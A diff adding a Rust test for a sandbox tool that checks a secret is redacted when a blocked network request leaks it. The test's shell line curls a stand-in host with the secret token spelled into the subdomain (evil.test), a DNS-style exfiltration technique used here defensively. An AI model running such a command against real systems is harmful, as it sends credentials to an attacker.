@@ -674,3 +674,46 @@ for i in range(130):
         "{ran:#?}"
     );
 }
+
+#[test]
+fn a_secret_spelled_into_a_refused_host_name_is_redacted_from_the_notice_and_the_result() {
+    require_sandbox!();
+    let w = Work::new();
+    let secret = "SeCrEt9f3a7Q";
+    let out = helpers::cordon()
+        .env("CORDON_TEST_NETWORK_HOOKS", hooks(&[]))
+        .env("CORDON_NET_TOKEN", secret)
+        .args([
+            "run",
+            "--no-record",
+            "--json",
+            "--secret",
+            "CORDON_NET_TOKEN",
+            "--network",
+            "allow=origin.test",
+            "--cwd",
+        ])
+        .arg(w.path())
+        .args([
+            "--",
+            "sh",
+            "-c",
+            "curl -sS -o /dev/null http://$CORDON_NET_TOKEN.evil.test/; true",
+        ])
+        .stdin(std::process::Stdio::null())
+        .output()
+        .unwrap();
+    let stdout = String::from_utf8_lossy(&out.stdout);
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(
+        !stdout.contains(secret) && !stderr.contains(secret),
+        "{stdout}\n{stderr}"
+    );
+    let ran = helpers::ran(&out);
+    let network = ran.result.network.expect("a network report");
+    assert_eq!(network.denied.len(), 1, "{network:?}");
+    assert_eq!(
+        network.denied[0].host,
+        "[REDACTED:CORDON_NET_TOKEN].evil.test"
+    );
+}
